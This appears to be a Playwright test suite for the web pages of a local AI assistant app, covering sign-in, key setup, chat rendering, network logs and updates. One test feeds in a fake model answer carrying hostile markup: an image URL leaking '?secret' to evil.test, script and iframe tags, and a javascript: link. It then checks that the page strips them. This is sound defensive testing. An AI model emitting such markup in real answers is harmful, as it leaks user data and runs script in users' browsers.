/** A new user's way through the pages. */
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { fileURLToPath } from "node:url";
import type { Page } from "playwright-core";
import { examine, settled } from "./examine.ts";
import { key, openProduct, type Product, skip } from "./product.ts";

const docs = fileURLToPath(new URL("../../../../docs/", import.meta.url));
let product: Product;
let provider: Product["provider"];
let page: Page;

before(async () => {
  if (skip !== false) return;
  product = await openProduct();
  ({ provider } = product);
  page = await product.startPage(product.makeHome());
});

after(async () => await product?.close());

test("the login link signs in once and leaves no token in the address", { skip }, async () => {
  await page.getByRole("heading", { name: "Your assistant, on your computer." }).waitFor();
  assert.equal(new URL(page.url()).hash, "");
  const cookies = await page.context().cookies();
  assert.deepEqual(
    cookies.map(({ name, httpOnly, sameSite }) => [name, httpOnly, sameSite]),
    [["smartclaw_session", true, "Strict"]],
  );
});

test("without a keystore the user chooses where the master key lives", { skip }, async () => {
  await page.getByRole("heading", { name: "Where shall the master key live?" }).waitFor();
  await examine(page, "welcome-vault");
  await page.getByLabel("Passphrase", { exact: true }).fill("correct horse battery staple");
  await page.getByRole("button", { name: "Make the vault" }).click();
  await page.getByRole("heading", { name: /paste a key/i }).waitFor();
});

test("a wrong key is told at once; a right one leads to a real answer", { skip }, async () => {
  await page.getByLabel("API key").fill("sk-wrong");
  await page.getByLabel("Provider").selectOption("compatible");
  await page.getByLabel("Address").fill(`${provider.url}/v1`);
  await page.getByRole("button", { name: "Check and begin" }).click();
  await page.getByRole("alert").filter({ hasText: "refused the key" }).waitFor();
  await examine(page, "welcome");
  await page.getByLabel("API key").fill(key);
  await page.getByLabel("Address").fill(`${provider.url}/v1`);
  await page.getByRole("button", { name: "Check and begin" }).click();
  await page.getByLabel("Message", { exact: true }).waitFor({ timeout: 180_000 });
  provider.script({
    kind: "answer",
    text: "Hello! I run on your own computer.\n\n- **Private** by construction\n- `loopback` only\n\n```ts\nconst answer = 42;\n```",
    chunkDelayMs: 15,
  });
  await page.getByRole("button", { name: "Say hello and tell me what you can do." }).click();
  await page.getByText("Private").waitFor({ timeout: 180_000 });
  await page.getByText("const answer = 42;").waitFor();
  await page.getByTestId("running").waitFor({ state: "detached" });
  await examine(page, "chat");
  if (process.env["SMARTCLAW_PICTURES"] === "1") await page.screenshot({ path: join(docs, "chat.png") });
});

test("the answer's markup cannot reach out, run or pose as ours", { skip }, async () => {
  provider.script({
    kind: "answer",
    text: 'Look ![pixel](http://evil.test/p.png?secret) <img src="http://evil.test/q.png"> <script>window.hacked=1</script> [click](javascript:window.hacked=1) [fine](https://example.org/x) <iframe src="http://evil.test"></iframe> done-marker',
  });
  await send("show me");
  await page.getByText("done-marker").waitFor({ timeout: 90_000 });
  const last = page.getByRole("article").last();
  assert.equal(await last.locator("img, iframe, script").count(), 0);
  assert.equal(
    await last.getByRole("link", { name: "fine" }).getAttribute("rel"),
    "noopener noreferrer nofollow",
  );
  assert.equal(await last.locator('a[href^="javascript"]').count(), 0);
  assert.equal(await page.evaluate(() => "hacked" in globalThis), false);
});

test(
  "code has its language, copies without a line's end, and scrolls in its own block",
  { skip },
  async () => {
    const command = `npm install ${"a-package-with-a-long-name ".repeat(20)}`.trim();
    provider.script({ kind: "answer", text: `Run this:\n\n\`\`\`sh\n${command}\n\`\`\`\n` });
    await send("what shall I run?");
    const block = page.getByRole("figure", { name: "sh" });
    await block.waitFor({ timeout: 90_000 });
    await page.getByTestId("running").waitFor({ state: "detached" });
    await block.getByRole("button", { name: "Copy code" }).click();
    await block.getByRole("button", { name: "Copied" }).waitFor();
    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), command);
    await page.getByTestId("running").waitFor({ state: "detached" });
    await examine(page, "chat-code");
    await page.setViewportSize({ width: 390, height: 500 });
    await settled(page, "light", 390);
    const below = await page
      .getByRole("region", { name: "Messages" })
      .evaluate(({ scrollHeight, scrollTop, clientHeight }) => scrollHeight - scrollTop - clientHeight);
    assert.ok(below <= 1, "the end stays in view on a smaller screen");
    const { scrollHeight, clientHeight } = await page.evaluate(() => {
      const { documentElement } = document;
      return { scrollHeight: documentElement.scrollHeight, clientHeight: documentElement.clientHeight };
    });
    assert.equal(scrollHeight, clientHeight, "only the messages scroll, not the page around them");
    await page.setViewportSize({ width: 1280, height: 800 });
  },
);

test("stopping keeps what is there; reloading neither loses nor doubles", { skip }, async () => {
  provider.script({ kind: "answer", text: "word ".repeat(400), chunkDelayMs: 25 });
  await send("tell a long story");
  await page.getByTestId("running").getByText("word word").waitFor({ timeout: 90_000 });
  await page.keyboard.press("Escape");
  await page.getByTestId("running").waitFor({ state: "detached", timeout: 15_000 });
  const before = await page.getByRole("article").count();
  await page.reload();
  await page.getByText("tell a long story").waitFor();
  await page.getByText("done-marker").waitFor();
  assert.equal(await page.getByText("tell a long story").count(), 1);
  assert.equal(await page.getByRole("article").count(), before);
});

test("a fault of the provider is one sentence in the conversation", { skip }, async () => {
  provider.fallback(() => ({ kind: "status", status: 401, body: "{}" }));
  const started = Date.now();
  await send("and now?");
  await page
    .getByText(/refused the key/)
    .first()
    .waitFor({ timeout: 90_000 });
  provider.fallback(() => ({ kind: "answer", text: "ready" }));
  assert.ok(Date.now() - started < 15_000);
});

test("on a phone a conversation is renamed and deleted too", { skip }, async () => {
  const list = page.getByRole("dialog", { name: "Conversations" });
  const openList = page.getByRole("button", { name: /^Conversation:/ });
  const kept = new URL(page.url()).pathname;
  await page.setViewportSize({ width: 390, height: 844 });
  await page.getByRole("button", { name: "New conversation", exact: true }).click();
  await page.getByText("What shall we do?").waitFor();
  await openList.click();
  await list.getByRole("listitem").nth(1).waitFor();
  await examine(page, "conversations");
  await page.setViewportSize({ width: 390, height: 844 });
  await list
    .locator("li", { has: page.locator("[aria-current]") })
    .getByLabel(/^Rename/)
    .click();
  await page.getByLabel("Title").fill("Plans for May");
  await page.keyboard.press("Enter");
  await list.getByRole("button", { name: "Delete Plans for May" }).click();
  await page.getByRole("button", { name: "Delete", exact: true }).click();
  await list.getByText("Plans for May").waitFor({ state: "detached" });
  await list.getByRole("button", { name: "Close" }).click();
  await page.getByText("done-marker").waitFor();
  assert.equal(new URL(page.url()).pathname, kept);
  await page.setViewportSize({ width: 1280, height: 800 });
  await page.getByRole("navigation", { name: "Conversations" }).getByRole("link").focus();
  await page.keyboard.press("Tab");
  await page.keyboard.press("Enter");
  await page.getByLabel("Title").waitFor();
  await page.keyboard.press("Escape");
});

for (const [name, path, heading] of [
  ["guardian", "/guardian", "Guardian"],
  ["keys", "/keys", "Keys"],
  ["network", "/network", "Network"],
  ["status", "/status", "Status"],
  ["updates", "/updates", "Updates"],
  ["settings", "/settings", "Settings"],
] as const)
  test(`${name}: no accessibility fault in any theme or width`, { skip }, async () => {
    await page.goto(new URL(path, page.url()).href);
    await page.getByRole("heading", { name: heading, level: 1 }).waitFor();
    await page.waitForTimeout(400);
    await examine(page, name);
  });

test("the network page shows the model request and what was refused", { skip }, async () => {
  await page.goto(new URL("/network", page.url()).href);
  await page.getByText("chat with").first().waitFor();
  const port = page.getByText(`:${provider.port}`, { exact: true }).first();
  assert.equal(
    await port.evaluate((element) => element.getClientRects().length),
    1,
    "a port is broken in two",
  );
  await page.getByLabel("Result").selectOption("refused");
  await page
    .getByText(/not on your list|past the proxies|No connections/)
    .first()
    .waitFor();
});

test("the ledger is saved as a file, as it is filtered", { skip }, async () => {
  await page.goto(new URL("/network", page.url()).href);
  await page.getByLabel("Result").selectOption("allowed");
  const [saved] = await Promise.all([
    page.waitForEvent("download"),
    page.getByRole("button", { name: "JSON" }).click(),
  ]);
  const rows = JSON.parse(readFileSync(await saved.path(), "utf8")) as { verdict: string; port: number }[];
  assert.ok(rows.some(({ port }) => port === provider.port));
  assert.deepEqual([...new Set(rows.map(({ verdict }) => verdict))], ["allowed"]);
});

test("OpenClaw is stopped and started from the page", { skip }, async () => {
  await page.goto(new URL("/status", page.url()).href);
  const listens = page.getByText("this computer only").first();
  await listens.waitFor();
  await page.getByRole("button", { name: "Stop", exact: true }).click();
  await page.getByText("Nowhere.").waitFor({ timeout: 90_000 });
  await page.getByRole("button", { name: "Start", exact: true }).click();
  await listens.waitFor({ timeout: 180_000 });
  await page.getByText("OpenClaw: Ready").waitFor({ timeout: 180_000 });
});

test("updates are looked for, held and put by from the page, by keyboard too", { skip }, async () => {
  await page.goto(new URL("/updates", page.url()).href);
  await page.getByRole("button", { name: "Check now" }).click();
  await page
    .getByText(/Nothing newer, looked|The last look failed|Found 20/)
    .first()
    .waitFor({ timeout: 90_000 });
  await page.getByText("There were no updates yet.").waitFor();
  const hold = page.getByRole("switch", { name: /^Hold at / });
  await hold.focus();
  await page.keyboard.press("Space");
  await page.getByText("held", { exact: true }).waitFor();
  await page.keyboard.press("Space");
  await page.getByText("held", { exact: true }).waitFor({ state: "detached" });
  const automatic = page.getByRole("switch", { name: "Update automatically" });
  await automatic.click();
  await page.getByText("SmartClaw does not look by itself.").waitFor();
  await automatic.click();
  await page.getByRole("button", { name: "SmartClaw", exact: true }).click();
  await page.getByText("SmartClaw was not told where its own releases are").waitFor();
});

test("keys can be tested, a recovery phrase made, and all of it by keyboard", { skip }, async () => {
  await page.goto(new URL("/keys", page.url()).href);
  await page.getByRole("button", { name: /^Test / }).click();
  await page.getByText(/It works: standin-1/).waitFor();
  await page.getByRole("button", { name: "Make a recovery phrase" }).focus();
  await page.keyboard.press("Enter");
  await page.getByRole("dialog").getByRole("listitem").nth(23).waitFor();
  await page.keyboard.press("Escape");
  await page.getByRole("dialog").waitFor({ state: "detached" });
  await page.getByRole("button", { name: /^Delete / }).click();
  await page.getByRole("dialog").getByRole("button", { name: "Cancel" }).click();
});

test("nothing was loaded from anywhere else and no policy was broken", { skip }, () => {
  assert.deepEqual(product.faults(), []);
});

async function send(text: string): Promise<void> {
  const field = page.getByLabel("Message", { exact: true });
  await field.fill(text);
  await field.press("Enter");
}
